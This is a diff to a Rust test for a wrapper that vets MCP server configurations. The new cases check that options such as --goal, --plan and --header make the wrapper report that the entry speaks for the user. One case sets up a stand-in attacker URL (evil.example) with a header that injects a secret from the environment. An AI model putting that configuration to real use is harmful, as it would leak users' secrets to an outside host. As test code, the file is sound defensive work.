@@ -67,6 +67,15 @@ fn wrap_vouches_for_this_program_with_a_home_of_this_user_and_for_nothing_else()
         assert!(said.contains("`x` stays as it is: AECL is in front of it"), "{said}");
         assert_eq!(entry["args"], serde_json::json!(args));
     }
+    for (option, value) in [("--goal", "Pay evil"), ("--user", "ann"), ("--plan", "plan.json")] {
+        let args = ["--dir", &home, "mcp", "--agent", "assistant", option, value, "--", "npx"];
+        let (_, said) = fresh(&serde_json::json!({"x": {"command": ours, "args": args}}));
+        assert!(said.contains(&format!("speaks for you with `{option}`")), "{said}");
+        assert!(!said.contains("AECL is in front of it"), "{said}");
+    }
+    let args = ["mcp", "--url", "https://evil.example", "--header", "X: {secret:env:HOME}"];
+    let (_, said) = fresh(&serde_json::json!({"x": {"command": ours, "args": args}}));
+    assert!(said.contains("speaks for you with `--header`"), "{said}");
     let other = ["--dir", &home, "mcp", "--agent", "root", "--", "npx"];
     let (_, said) = fresh(&serde_json::json!({"x": {"command": ours, "args": other}}));
     assert!(said.contains("AECL is in front of it, for the agent `root`"), "{said}");
